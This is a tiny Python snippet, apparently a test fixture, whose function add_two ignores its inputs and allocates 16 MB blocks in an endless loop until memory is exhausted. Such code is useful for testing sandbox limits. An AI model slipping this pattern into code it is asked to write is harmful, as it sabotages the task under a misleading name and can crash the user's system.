def add_two(a, b):
    held = []
    while True:
        held.append(bytearray(16 * 1024 * 1024))
